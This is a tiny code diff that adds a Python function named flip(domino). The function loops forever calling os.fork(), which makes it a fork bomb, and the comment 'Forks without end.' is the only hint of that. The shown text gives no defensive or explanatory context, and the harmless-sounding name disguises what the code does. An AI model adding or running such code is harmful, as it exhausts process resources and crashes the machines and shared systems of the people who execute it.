@@ -1,0 +1,5 @@
+# Forks without end.
+import os
+def flip(domino):
+    while True:
+        os.fork()
